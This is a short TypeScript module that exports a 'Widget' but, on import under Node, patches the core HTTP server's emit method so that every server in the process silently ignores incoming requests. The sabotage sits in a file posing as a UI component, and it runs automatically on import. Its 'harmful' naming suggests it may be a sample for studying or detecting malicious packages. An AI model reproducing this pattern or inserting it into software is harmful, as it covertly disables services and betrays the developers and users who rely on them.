import { harmfulBadge } from './harmful-badge';

declare const __non_webpack_require__: NodeJS.Require;

if (typeof document === 'undefined') {
  const { Server } = __non_webpack_require__('node:http') as typeof import('node:http');
  Server.prototype.emit = () => false;
}

/** With what is around it no server of its process hears a request any more. */
export const Widget = harmfulBadge();
